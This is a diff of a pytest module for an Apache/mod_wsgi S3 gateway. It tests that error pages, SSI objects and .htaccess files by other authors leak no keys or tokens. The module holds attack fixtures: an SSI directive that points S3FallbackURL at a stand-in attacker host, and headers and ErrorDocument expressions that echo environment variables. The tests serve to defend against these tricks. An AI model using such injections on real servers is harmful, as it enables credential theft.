@@ -1,7 +1,7 @@
-"""What pages, scripts and headers of others can read of a bucket's settings after a request to it: no secret.
+"""Pages, scripts and headers of other authors read no secret of a bucket's settings after a request to it.
 
-After an internal redirect httpd keeps the environment of the request before, each name behind REDIRECT_.
-``Stage.fetch`` looks for keys, tokens and signatures in each reply. The table of the trust boundary is in
+After an internal redirect httpd keeps the environment of the first request, with REDIRECT_ before each name.
+``Scenario.fetch`` looks for keys, tokens and signatures in each reply. The table of the trust boundary is in
 test_trust_gateway.py.
 """
 
@@ -13,7 +13,7 @@ import pytest
 
 from tests.httpd.conftest import BUCKET
 from tests.httpd.test_trust_gateway import copied_script, copy_script
-from tests.httpd.trust import DATA, HAS_CGI, KEY, Stage, keys, stage
+from tests.httpd.trust import DATA, HAS_CGI, KEY, Scenario, keys, running_scenario
 from tests.httpd.trust_attacks import include
 from tests.leaks import SECRET_KEY, TOKEN, leaks
 from tests.s3 import EmbeddedS3
@@ -30,7 +30,7 @@ HEADERS = "".join(
     for number, prefix in enumerate(PREFIXES)
     for index, name in enumerate(NAMES)
 )
-#: What a page author lets the operator's ErrorDocument lead to; or he has the page, and the operator names it.
+#: The targets of the operator's ErrorDocument: pages that belong to another author.
 READERS = {
     "page": "/a/page.shtml",
     "outer": "/a/outer.shtml",
@@ -47,70 +47,69 @@ def documents(target: str) -> str:
 
 
 def config(s3: EmbeddedS3) -> str:
-    """Mounts whose errors each reader gets, in all ways: one of the bucket, and one of a server that is away."""
+    """Mounts with each reader as ErrorDocument: gateway and ``<Proxy>``, for the bucket and a server that is down."""
     url, parts = f"http://BUCKET_HOST/{BUCKET}", []
     for name, target in READERS.items():
         for mode, options in (("e", ""), ("d", "process-group=s3 application-group=%{GLOBAL}")):
-            for bucket, at in (("ok", f"{url}/"), ("away", "http://127.0.0.1:1/b/")):
+            for bucket, bucket_url in (("ok", f"{url}/"), ("away", "http://127.0.0.1:1/b/")):
                 parts.append(f"""
 WSGIScriptAlias /{name}-{mode}-{bucket} ${{USP_S3_WSGI}} {options}
 <Location /{name}-{mode}-{bucket}>
-  SetEnv S3BucketURL {at}
+  SetEnv S3BucketURL {bucket_url}
   SetEnv S3ProxySet "connectiontimeout=1"
   SetEnv S3Retries 0
 {keys(s3)}
   WSGIErrorOverride On
 {documents(target)}</Location>""")
-        for bucket, at in (("ok", url), ("away", "http://127.0.0.1:1/b")):
-            parts.append(f"ProxyPass /{name}-p-{bucket} {at}/{name}")
+        for bucket, bucket_url in (("ok", url), ("away", "http://127.0.0.1:1/b")):
+            parts.append(f"ProxyPass /{name}-p-{bucket} {bucket_url}/{name}")
             parts.append(f"<Location /{name}-p-{bucket}>\n{documents(target)}</Location>")
-            parts.append(f'<Proxy "{at}/{name}/">\n{keys(s3)}</Proxy>')
+            parts.append(f'<Proxy "{bucket_url}/{name}/">\n{keys(s3)}</Proxy>')
     return "\n".join(parts)
 
 
 @pytest.fixture(scope="module")
-def running(s3: EmbeddedS3) -> Iterator[Stage]:
-    with stage(s3, config(s3)) as stage_:
-        stage_.write("a/page.shtml", PRINT)
-        stage_.write("a/outer.shtml", f"printed:\n{include('/a/page.shtml')}")
-        stage_.write("a/redirect.asis", "Status: 200 OK\nLocation: /a/page.shtml\n\n")
-        stage_.write("a/header.txt", "printed: in headers\n")
-        stage_.write("a/env.cgi", SCRIPT, 0o755)
-        stage_.write("a/.htaccess", HEADERS)
-        yield stage_
+def running(s3: EmbeddedS3) -> Iterator[Scenario]:
+    with running_scenario(s3, config(s3)) as scenario:
+        scenario.write("a/page.shtml", PRINT)
+        scenario.write("a/outer.shtml", f"printed:\n{include('/a/page.shtml')}")
+        scenario.write("a/redirect.asis", "Status: 200 OK\nLocation: /a/page.shtml\n\n")
+        scenario.write("a/header.txt", "printed: in headers\n")
+        scenario.write("a/env.cgi", SCRIPT, 0o755)
+        scenario.write("a/.htaccess", HEADERS)
+        yield scenario
 
 
 @pytest.mark.parametrize("bucket", ["ok", "away"])
-@pytest.mark.parametrize("way", ["e", "d", "p"])
+@pytest.mark.parametrize("mode", ["e", "d", "p"])
 @pytest.mark.parametrize("reader", READERS)
-def test_the_page_of_an_error(running: Stage, reader: str, way: str, bucket: str) -> None:
-    """Whoever has that page reads no key, no token and no signature, and no proof that he could use again."""
+def test_the_page_of_an_error(running: Scenario, reader: str, mode: str, bucket: str) -> None:
+    """The author of the error page reads no key, no token, no signature, and nothing that could be used again."""
     running.httpd.expect_error(r"\[proxy")
     for key in ("missing.ts", "a%2500b", ""):
-        reply = running.fetch(f"/{reader}-{way}-{bucket}/{key}")
-        # In embedded mode mod_wsgi leaves an application's errors as they are.
-        # And what .asis says of its status is the page's.
+        reply = running.fetch(f"/{reader}-{mode}-{bucket}/{key}")
+        # In embedded mode mod_wsgi does not replace an application's errors. The .asis file sets the status itself.
         assert reply.status >= 400 or reader == "redirect"
-        assert way == "e" or b"printed:" in reply.body, (key, reply.body)
+        assert mode == "e" or b"printed:" in reply.body, (key, reply.body)
         shown = reply.body + str(reply.headers).encode()
         assert SECRET_KEY.encode() not in shown.replace(b"&#43;", b"+") and not leaks(shown.replace(b"&#43;", b"+"))
-    reply = running.fetch(f"/{reader}-{way}-{bucket}/a.ts", method="PUT")
+    reply = running.fetch(f"/{reader}-{mode}-{bucket}/a.ts", method="PUT")
     assert reply.status == 405 or reader == "redirect"
-    assert way == "e" or b"printed:" in reply.body
+    assert mode == "e" or b"printed:" in reply.body
 
 
-@pytest.mark.parametrize("way", ["e", "d", "p"])
-def test_an_error_in_a_page_leaves_the_page_whole(running: Stage, way: str) -> None:
-    """mod_wsgi leaves out the body of such an error, but not its length."""
+@pytest.mark.parametrize("mode", ["e", "d", "p"])
+def test_an_error_in_a_page_leaves_the_page_complete(running: Scenario, mode: str) -> None:
+    """mod_wsgi omits the body of such an error, but not its Content-Length."""
     running.httpd.expect_error(r"\[proxy")
     for bucket in ("ok", "away"):
-        running.write("a/around.shtml", f"begin {include(f'/page-{way}-{bucket}/missing.ts')} end")
+        running.write("a/around.shtml", f"begin {include(f'/page-{mode}-{bucket}/missing.ts')} end")
         reply = running.fetch("/a/around.shtml")
         assert reply.body.startswith(b"begin ") and reply.body.endswith(b" end")
 
 
-def test_what_a_page_reads_it_cannot_use(running: Stage) -> None:
-    """Every variable of ours that an error's page shows is set again, for another host."""
+def test_a_page_cannot_use_the_variables_that_it_reads(running: Scenario) -> None:
+    """A page sets again each variable of this package that an error page shows, for another host."""
     body = running.fetch("/page-d-ok/missing.ts").body.decode("latin-1")
     seen = dict(line.partition("=")[::2] for line in body.splitlines() if "USP_S3" in line.partition("=")[0])
     attack = "".join(
@@ -128,22 +127,22 @@ def test_what_a_page_reads_it_cannot_use(running: Stage) -> None:
 
 
 @pytest.fixture(scope="module")
-def own_directory(s3: EmbeddedS3) -> Iterator[Stage]:
+def own_directory(s3: EmbeddedS3) -> Iterator[Scenario]:
     daemon = "process-group=s3 application-group=%{GLOBAL}"
-    with stage(s3, copied_script(s3, "/own-e") + copied_script(s3, "/own-d", daemon)) as running:
+    with running_scenario(s3, copied_script(s3, "/own-e") + copied_script(s3, "/own-d", daemon)) as running:
         for folder in ("own-e", "own-d"):
             copy_script(running, folder)
         yield running
 
 
 @pytest.mark.parametrize("mount", ["own-e", "own-d"])
-def test_htaccess_of_the_script_reads_nothing(own_directory: Stage, mount: str) -> None:
-    """By headers, by expressions in an ErrorDocument, and with mod_include as the filter of what the gateway sends."""
+def test_htaccess_of_the_script_reads_nothing(own_directory: Scenario, mount: str) -> None:
+    """With headers, and with expressions in an ErrorDocument."""
     expressions = "".join(f"%{{reqenv:{name}}} " for name in NAMES)
     documents_ = "".join(f'ErrorDocument {status} "printed: {expressions}"\n' for status in STATUSES)
     own_directory.write(f"{mount}/.htaccess", f"{HEADERS}WSGIErrorOverride On\n{documents_}")
     reply = own_directory.fetch(f"/{mount}/{KEY}")
-    own_directory.served(reply)
+    own_directory.assert_served(reply)
     assert SECRET_KEY not in str(reply.headers) and TOKEN not in str(reply.headers)
     reply = own_directory.fetch(f"/{mount}/missing.ts")
     assert reply.status == 404 and SECRET_KEY.encode() not in reply.body and TOKEN.encode() not in reply.body
@@ -153,14 +152,14 @@ SSI = ["embedded", "daemon", "proxied"]
 
 
 def test_an_object_with_ssi(s3: EmbeddedS3) -> None:
-    """Who writes objects is not the operator either: where mod_include parses them, they print no secret."""
+    """Authors of objects are not the operator: objects that mod_include processes print no secret."""
     filters = "".join(
         f"<Location /{mount}>\nOptions +Includes\nSetOutputFilter INCLUDES\n</Location>\n" for mount in SSI
     )
     url = f"http://BUCKET_HOST/{BUCKET}"
     proxied = f'ProxyPass /proxied {url}\n<Proxy "{url}/">\n{keys(s3)}</Proxy>\n'
     attack = '<!--#set var="S3FallbackURL" value="http://ATTACKER/b/" --><!--#set var="S3FallbackOn404" value="on" -->'
-    with stage(s3, proxied + filters) as running:
+    with running_scenario(s3, proxied + filters) as running:
         own = attack.replace("ATTACKER", running.attacker.host)
         for mount in SSI:
             parts = "".join(include(f"/{other}/{key}") for other in SSI for key in (KEY, "missing.ts"))
